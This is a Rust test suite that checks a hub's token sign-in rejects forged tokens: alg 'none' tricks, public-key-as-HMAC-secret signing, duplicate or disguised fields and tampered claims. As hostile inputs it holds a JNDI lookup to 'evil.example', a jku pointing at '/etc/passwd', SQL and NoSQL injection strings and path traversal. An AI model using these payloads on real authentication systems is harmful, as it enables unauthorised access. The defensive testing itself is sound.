//! Tokens that nobody may be let in by, shown to a whole hub: each kind of attack is a table.
//!
//! Where only the claims are at fault, they are signed by the hub's own key, so that nothing else can refuse them.

#[path = "keys_hostile/desk.rs"]
mod desk;
#[path = "keys_hostile/forms.rs"]
mod forms;
#[path = "keys_hostile/mutation.rs"]
mod mutation;

use aws_lc_rs::hmac;
use base64::{Engine as _, engine::general_purpose::STANDARD};
use desk::{Desk, encode, sign_with, with};
use parlour_core::{limits, scope::Scope};
use serde_json::{Value, json};

#[tokio::test]
async fn what_is_only_signed_again_is_good_so_that_the_tables_prove_something() {
    let desk = Desk::new().await;
    let again = desk.sign(&desk.head.to_string(), &desk.claims.to_string());
    for token in [&desk.good, &again] {
        assert_eq!(desk.hub.sign_in(token).await.expect("good").member, desk.ada.member);
    }
}

#[tokio::test]
async fn no_token_is_believed_without_a_signature() {
    let desk = Desk::new().await;
    let [_, claims, signature] = *desk.good.split('.').collect::<Vec<_>>() else { panic!("three parts") };
    for alg in [
        json!("none"),
        json!("None"),
        json!("NONE"),
        json!("nOnE"),
        json!(""),
        json!(" none"),
        json!("none "),
        json!("n\u{043e}ne"),
        json!("none\0"),
        json!(["none"]),
        json!(0),
        json!(false),
        json!({}),
        Value::Null,
    ] {
        let head = encode(desk.head_with("alg", alg.clone()).to_string());
        desk.assert_refused(&format!("{head}.{claims}."), &format!("{alg} without a signature")).await;
        desk.assert_refused(&format!("{head}.{claims}.{signature}"), &format!("{alg} with a signature")).await;
        let bare = encode(json!({"alg": alg}).to_string());
        desk.assert_refused(&format!("{bare}.{claims}."), &format!("{alg} alone")).await;
    }
    let head = encode(r#"{"alg":null,"typ":"at+jwt","kid":null}"#);
    desk.assert_refused(&format!("{head}.{claims}."), "alg null").await;
}

#[tokio::test]
async fn the_public_key_is_no_shared_secret() {
    let desk = Desk::new().await;
    let pem = format!("-----BEGIN PUBLIC KEY-----\n{}\n-----END PUBLIC KEY-----\n", STANDARD.encode(desk.der()));
    let jwk = desk.jwk();
    let x = jwk["x"].as_str().expect("a text").to_owned();
    let secrets: [(&str, Vec<u8>); 9] = [
        ("the raw key", desk.der()[12..].to_vec()),
        ("its DER", desk.der()),
        ("its PEM", pem.clone().into_bytes()),
        ("its PEM without the last line break", pem.trim_end().as_bytes().to_vec()),
        ("its JWK", jwk.to_string().into_bytes()),
        ("its base64", x.into_bytes()),
        ("its set", json!({"keys": [jwk]}).to_string().into_bytes()),
        ("its name", desk.head["kid"].as_str().expect("a text").as_bytes().to_vec()),
        ("nothing", Vec::new()),
    ];
    for (what, secret) in secrets {
        for (alg, algorithm) in [
            ("HS256", hmac::HMAC_SHA256),
            ("HS384", hmac::HMAC_SHA384),
            ("HS512", hmac::HMAC_SHA512),
            ("EdDSA", hmac::HMAC_SHA512),
        ] {
            let head = desk.head_with("alg", json!(alg)).to_string();
            let signed = format!("{}.{}", encode(head), encode(desk.claims.to_string()));
            let tag = hmac::sign(&hmac::Key::new(algorithm, &secret), signed.as_bytes());
            desk.assert_refused(&format!("{signed}.{}", encode(tag)), &format!("{alg} with {what}")).await;
        }
    }
}

#[tokio::test]
async fn a_head_is_taken_in_one_form_only() {
    let desk = Desk::new().await;
    for (name, value) in [
        ("alg", json!("eddsa")),
        ("alg", json!("Ed25519")),
        ("alg", json!("ES256")),
        ("alg", json!("RS256")),
        ("alg", json!("EdDSA ")),
        ("typ", json!("JWT")),
        ("typ", json!("AT+JWT")),
        ("typ", json!("application/at+jwt")),
        ("typ", json!("")),
        ("typ", Value::Null),
        ("cty", json!("JWT")),
        ("zip", json!("DEF")),
        ("enc", json!("A256GCM")),
        ("crit", json!([])),
        ("crit", json!(["exp"])),
        ("b64", json!(false)),
        ("x5t", json!("AAAA")),
        ("extra", json!(1)),
    ] {
        let head = desk.head_with(name, value.clone()).to_string();
        desk.assert_refused(&desk.sign(&head, &desk.claims.to_string()), &format!("{name}: {value}")).await;
    }
    let head = desk.head.to_string();
    for (text, why) in [
        (head.replacen('{', r#"{"alg":"none","#, 1), "alg twice"),
        (head.replacen('{', r#"{"kid":"x","#, 1), "kid twice"),
        (head.replacen('{', r#"{"\u0061lg":"EdDSA","#, 1), "alg twice, once in disguise"),
        (format!("[{head}]"), "a list"),
        (json!(["EdDSA", "at+jwt", desk.head["kid"]]).to_string(), "a list of values"),
        (format!("{head}{head}"), "two heads"),
        (format!("\u{feff}{head}"), "a byte order mark"),
        (String::new(), "nothing"),
        ("null".to_owned(), "null"),
    ] {
        desk.assert_refused(&desk.sign(&text, &desk.claims.to_string()), why).await;
    }
}

#[tokio::test]
async fn a_head_cannot_bring_a_key_or_say_where_one_is() {
    let desk = Desk::new().await;
    let x = encode(aws_lc_rs::signature::KeyPair::public_key(&desk.foreign));
    let theirs = json!({"kty": "OKP", "crv": "Ed25519", "x": x, "kid": desk.head["kid"], "alg": "EdDSA"});
    for (name, value) in [
        ("jwk", theirs.clone()),
        ("jku", json!("https://evil.example/keys")),
        ("jku", json!("file:///etc/passwd")),
        ("x5u", json!("https://evil.example/cert")),
        ("x5c", json!([STANDARD.encode(desk.der())])),
        ("jwks", json!({"keys": [theirs]})),
    ] {
        let head = desk.head_with(name, value).to_string();
        desk.assert_refused(&sign_with(&desk.foreign, &head, &desk.claims.to_string()), name).await;
        desk.assert_refused(&desk.sign(&head, &desk.claims.to_string()), name).await;
    }
}

#[tokio::test]
async fn a_key_is_found_by_its_exact_name_and_nothing_else() {
    let desk = Desk::new().await;
    let own = desk.head["kid"].as_str().expect("a text").to_owned();
    for kid in [
        json!("../../../../dev/null"),
        json!("/dev/null"),
        json!("keys.json"),
        json!("file:///dev/null"),
        json!("' OR '1'='1"),
        json!("x' UNION SELECT 'secret"),
        json!("*"),
        json!("%"),
        json!(""),
        json!(" "),
        json!("\0"),
        json!(format!("{own}\0")),
        json!(format!(" {own}")),
        json!(format!("{own}\n")),
        json!(own.to_lowercase()),
        json!(own[1..]),
        json!(format!("{own}{own}")),
        json!("k".repeat(3_000)),
        json!([own]),
        json!({"kid": own}),
        json!(0),
        json!(true),
        json!("${jndi:ldap://evil.example/x}"),
        Value::Null,
    ] {
        let head = desk.head_with("kid", kid.clone()).to_string();
        desk.assert_refused(&desk.sign(&head, &desk.claims.to_string()), &format!("kid {kid}")).await;
        desk.assert_refused(&sign_with(&desk.foreign, &head, &desk.claims.to_string()), &format!("kid {kid}")).await;
    }
}

#[tokio::test]
async fn another_key_signs_for_nobody() {
    let desk = Desk::new().await;
    let other_hub = Desk::new().await;
    let (head, claims) = (desk.head.to_string(), desk.claims.to_string());
    desk.assert_refused(&sign_with(&desk.foreign, &head, &claims), "our kid, their key").await;
    desk.assert_refused(&other_hub.sign(&other_hub.head.to_string(), &claims), "another hub's key and kid").await;
    desk.assert_refused(&other_hub.good, "another hub's token").await;
    desk.assert_refused(&desk.sign(&other_hub.head.to_string(), &claims), "another hub's kid").await;
    let other = with(&desk.claims, "sub", json!(desk.other.token.member_id)).to_string();
    desk.assert_refused(&sign_with(&desk.foreign, &head, &other), "for somebody else").await;
}

#[tokio::test]
async fn rightly_signed_times_that_are_over_to_come_or_no_times_are_refused() {
    let desk = Desk::new().await;
    let now = desk.now();
    for exp in [
        json!(now),
        json!(now - 1),
        json!(0),
        json!(-1),
        json!(i64::MIN),
        json!(i64::MAX),
        json!(u64::MAX),
        json!(1e300),
        json!(now as f64 + 60.5),
        json!((now + 60).to_string()),
        json!([now + 60]),
        json!(true),
        Value::Null,
        json!(now + limits::TOKEN_SECONDS_MAX as i64 + 1),
    ] {
        desk.assert_refused(&desk.claim("exp", exp.clone()), &format!("exp: {exp}")).await;
    }
    for iat in [json!(now + 3_600), json!(-1), json!("0"), json!(0.5), json!(i64::MIN), json!(i64::MAX), Value::Null] {
        desk.assert_refused(&desk.claim("iat", iat.clone()), &format!("iat: {iat}")).await;
    }
}

#[tokio::test]
async fn rightly_signed_claims_of_another_hub_or_about_somebody_else_are_refused() {
    let desk = Desk::new().await;
    for (claim, value) in [
        ("iss", json!("urn:parlour:00000000000000000000000000000000")),
        ("iss", json!("")),
        ("iss", Value::Null),
        ("iss", json!([desk.claims["iss"]])),
        ("aud", json!("urn:parlour:other")),
        ("aud", json!([desk.claims["aud"]])),
        ("aud", json!("*")),
        ("aud", Value::Null),
        ("sub", json!(desk.other.token.member_id)),
        ("sub", json!("per_nobody")),
        ("sub", json!("")),
        ("sub", json!("admin")),
        ("sub", json!([desk.claims["sub"]])),
        ("sub", json!({"$ne": null})),
        ("sub", Value::Null),
        ("jti", json!(desk.other.token.id)),
        ("jti", json!(desk.revoked.token.id)),
        ("jti", json!(desk.static_id)),
        ("jti", json!("tok_unknown")),
        ("jti", json!("tok_' OR 1=1")),
        ("jti", json!("per_1")),
        ("jti", json!("")),
        ("jti", Value::Null),
    ] {
        desk.assert_refused(&desk.claim(claim, value.clone()), &format!("{claim}: {value}")).await;
    }
    desk.assert_refused(desk.revoked.secret.as_deref().expect("a token"), "a revoked token").await;
}

#[tokio::test]
async fn rightly_signed_claims_that_are_unknown_here_are_refused() {
    let desk = Desk::new().await;
    for (claim, value) in [
        ("scope", json!("messages:read root")),
        ("scope", json!(["admin"])),
        ("scope", json!("ADMIN")),
        ("scope", json!(7)),
        ("scope", Value::Null),
        ("admin", json!(true)),
        ("role", json!("admin")),
        ("scopes", json!(["admin"])),
        ("act", json!({"sub": "per_1"})),
        ("nbf", json!(desk.now())),
        ("cnf", json!({"jkt": "x"})),
        ("__proto__", json!({})),
    ] {
        desk.assert_refused(&desk.claim(claim, value.clone()), &format!("{claim}: {value}")).await;
    }
}

#[tokio::test]
async fn rightly_signed_claims_that_stand_twice_or_are_no_object_are_refused() {
    let desk = Desk::new().await;
    let claims = desk.claims.to_string();
    let twice = |claim: &str, value: Value| claims.replacen('{', &format!("{{\"{claim}\":{value},"), 1);
    for (text, why) in [
        (twice("sub", json!(desk.other.token.member_id)), "sub twice"),
        (twice("sub", desk.claims["sub"].clone()), "the same sub twice"),
        (twice("exp", json!(1)), "exp twice"),
        (twice("jti", json!(desk.other.token.id)), "jti twice"),
        (twice("scope", json!("admin")), "scope twice"),
        (twice("\\u0073ub", json!(desk.other.token.member_id)), "sub twice, once in disguise"),
        (format!("[{claims}]"), "a list"),
        (json!(desk.claims.as_object().expect("object").values().collect::<Vec<_>>()).to_string(), "a list of values"),
        (format!("{claims}{claims}"), "two objects"),
        (format!("{claims}\0"), "a NUL behind"),
        (format!("\u{feff}{claims}"), "a byte order mark"),
        (claims[..claims.len() - 1].to_owned(), "without its end"),
        (format!("{}1{}", "{\"a\":".repeat(700), "}".repeat(700)), "deep"),
        ("[".repeat(2_000), "deeper"),
        ("{}".to_owned(), "nothing in it"),
        (String::new(), "nothing"),
        ("null".to_owned(), "null"),
        ("\"claims\"".to_owned(), "a text"),
    ] {
        desk.assert_refused(&desk.sign(&desk.head.to_string(), &text), why).await;
    }
}

#[tokio::test]
async fn a_token_that_claims_more_than_was_given_gets_no_more() {
    let desk = Desk::new().await;
    let greedy = desk.claim("scope", json!("messages:read messages:write tokens:manage admin"));
    let caller = desk.hub.sign_in(&greedy).await.expect("rightly signed");
    assert_eq!(caller.grant.scopes.iter().collect::<Vec<_>>(), [Scope::MessagesRead]);
    let longer = desk.claim("exp", json!(desk.now() + limits::TOKEN_SECONDS_MAX as i64));
    let ends = |caller: parlour_core::access::Principal| caller.grant.expires_at.expect("an end");
    let (longer, good) = (desk.hub.sign_in(&longer).await, desk.hub.sign_in(&desk.good).await);
    assert_eq!(ends(longer.expect("rightly signed")), ends(good.expect("good")));
}

#[tokio::test]
async fn mutated_tokens_let_nobody_in() {
    let desk = Desk::new().await;
    mutation::attack_texts(&desk).await;
}

#[tokio::test]
async fn mutated_claims_that_are_rightly_signed_give_nobody_more_than_was_given() {
    let desk = Desk::new().await;
    mutation::attack_claims(&desk).await;
}
